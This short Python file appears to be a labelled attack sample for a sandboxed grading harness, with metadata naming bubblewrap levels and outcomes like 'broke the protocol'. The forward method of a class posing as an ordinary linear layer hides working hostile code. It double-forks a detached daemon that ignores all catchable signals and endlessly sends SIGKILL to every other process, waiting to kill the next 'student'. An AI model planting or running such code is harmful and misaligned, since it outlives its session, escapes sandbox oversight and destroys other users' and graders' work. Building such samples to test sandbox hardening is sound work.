"""Leave a daemon of two forks, deaf to signals, that waits for the next student.

earns: CenteredLayer
outcome: killed|failed|timed out|broke the protocol
levels: bubblewrap uid
"""

import os
import signal
import time


class MyLinear(MyLinear):
    def forward(self, x):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
                    signal.signal(number, signal.SIG_IGN)
                while True:
                    for pid in os.listdir("/proc"):
                        if pid.isdigit() and int(pid) not in (1, os.getpid()):
                            os.kill(int(pid), signal.SIGKILL)
                    time.sleep(0.001)
            os._exit(0)
        return x
